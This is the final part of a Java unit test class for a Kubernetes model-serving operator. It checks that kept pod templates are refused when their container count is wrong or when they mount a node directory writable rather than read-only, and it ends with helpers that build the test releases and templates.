        assertThat(refusal(t, rec)).hasValueSatisfying(why -> assertThat(why).contains(reason));
    }

    @Test
    void aTemplateOfTheFledgeServerAloneIsNotKeptForAnUpstreamNorTheOtherWayRound() {
        ServingStatus rec = upstreamRecorded();
        PodTemplateSpec fledgeOnly = Serialization.clone(
                OPERATOR.build(mr, Labels.TRACK_STABLE, recorded, 2).getSpec().getTemplate());
        assertThat(refusal(fledgeOnly, rec))
                .hasValueSatisfying(why -> assertThat(why).contains("exactly two containers"));
        assertThat(refusal(upstreamTemplate(rec), recorded))
                .hasValueSatisfying(why -> assertThat(why).contains("exactly one container"));
        assertThat(KeptTemplateCheck.refusal(
                        upstreamTemplate(rec),
                        rec,
                        OPERATOR.operatorEnvValues("assistant", rec),
                        HARDENING,
                        Optional.empty()))
                .as("without what this operator builds to compare with")
                .hasValueSatisfying(why -> assertThat(why).contains("as this operator builds them"));
    }

    /**
     * A kept template (one an older operator built, or someone wrote) that mounts an allowed node directory writable is
     * refused: read-only is the only way a hostPath reaches a pod now ({@link HostPathMounts}).
     */
    @Test
    void aKeptTemplateThatMountsANodeDirectoryWritableIsRefused() {
        PodHardening hosted =
                new PodHardening(Optional.of(PodHardening.DEFAULT_USER), List.of("/var/lib/fledge/models"));
        DesiredDeployment operator = new DesiredDeployment(DEFAULTS, hosted);
        for (Boolean readOnly : java.util.Arrays.asList(null, false, true)) {
            PodTemplateSpec t = Serialization.clone(operator.build(mr, Labels.TRACK_STABLE, recorded, 2)
                    .getSpec()
                    .getTemplate());
            t.getSpec()
                    .getVolumes()
                    .add(new VolumeBuilder()
                            .withName("node")
                            .withNewHostPath("/var/lib/fledge/models", "Directory")
                            .build());
            container(t)
                    .getVolumeMounts()
                    .add(new VolumeMount("/node-models", null, "node", readOnly, null, null, null));
            Optional<String> why = KeptTemplateCheck.refusal(
                    t, recorded, operator.operatorEnvValues("assistant", recorded), hosted, Optional.empty());
            if (Boolean.TRUE.equals(readOnly)) {
                assertThat(why).as("read-only").isEmpty();
            } else {
                assertThat(why)
                        .as("readOnly " + readOnly)
                        .hasValue("its mount /node-models: " + HostPathMounts.MESSAGE);
            }
        }
    }

    /** As the operator asks it ({@code Workloads}): what this operator sets and builds for {@code rec}. */
    private static Optional<String> refusal(PodTemplateSpec t, ServingStatus rec) {
        return KeptTemplateCheck.refusal(
                t,
                rec,
                OPERATOR.operatorEnvValues("assistant", rec),
                HARDENING,
                OPERATOR.upstreamPod("assistant", rec));
    }

    private static ModelRelease upstreamRelease() {
        ModelRelease up = release();
        up.getSpec().setServer(DesiredDeploymentTest.vllm(new UpstreamSpec()));
        return up;
    }

    private static ServingStatus upstreamRecorded() {
        return new ServingConfig(DEFAULTS).of(upstreamRelease());
    }

    private static PodTemplateSpec upstreamTemplate(ServingStatus rec) {
        PodTemplateSpec t = Serialization.clone(OPERATOR.build(upstreamRelease(), Labels.TRACK_STABLE, rec, 2)
                .getSpec()
                .getTemplate());
        if (t.getMetadata().getAnnotations() == null) {
            t.getMetadata().setAnnotations(new HashMap<>());
        }
        return t;
    }

    private static io.fabric8.kubernetes.api.model.Container named(PodTemplateSpec t, String name) {
        return t.getSpec().getContainers().stream()
                .filter(c -> name.equals(c.getName()))
                .findFirst()
                .orElseThrow();
    }

    private static EnvVar env(io.fabric8.kubernetes.api.model.Container c, String name) {
        return c.getEnv().stream()
                .filter(e -> e.getName().equals(name))
                .findFirst()
                .orElseThrow();
    }

    private static Volume volume(PodTemplateSpec t, String name) {
        return t.getSpec().getVolumes().stream()
                .filter(v -> v.getName().equals(name))
                .findFirst()
                .orElseThrow();
    }

    /** {@code t} with {@code v} added and mounted read-only at {@code path} into the other server's container. */
    private static void mountedOnTheServer(PodTemplateSpec t, Volume v, String path) {
        t.getSpec().getVolumes().add(v);
        upstream(t).getVolumeMounts().add(new VolumeMount(path, null, v.getName(), true, null, null, null));
    }

    private static io.fabric8.kubernetes.api.model.Container upstream(PodTemplateSpec t) {
        return named(t, ServerDefaults.CONTAINER);
    }

    private static io.fabric8.kubernetes.api.model.Container proxy(PodTemplateSpec t) {
        return named(t, ServerDefaults.PROXY_CONTAINER);
    }

    private static void setEnv(PodTemplateSpec t, String name, String value) {
        container(t).getEnv().stream().filter(e -> e.getName().equals(name)).forEach(e -> e.setValue(value));
    }

    private static Arguments edit(String what, Consumer<PodTemplateSpec> change, String reason) {
        return Arguments.of(what, change, reason);
    }

    private static io.fabric8.kubernetes.api.model.Container container(PodTemplateSpec t) {
        return t.getSpec().getContainers().get(0);
    }

    private static ModelRelease release() {
        ModelRelease mr = new ModelRelease();
        mr.setMetadata(new ObjectMetaBuilder()
                .withName("assistant")
                .withNamespace("team-a")
                .withUid("uid-assistant")
                .build());
        ModelReleaseSpec spec = new ModelReleaseSpec();
        ModelSpec model = new ModelSpec();
        model.setName("assistant");
        model.setVersion("1.0.0");
        model.setUri("s3://models/assistant/1.0.0");
        spec.setModel(model);
        spec.setServer(new ServerSpec());
        mr.setSpec(spec);
        return mr;
    }
}
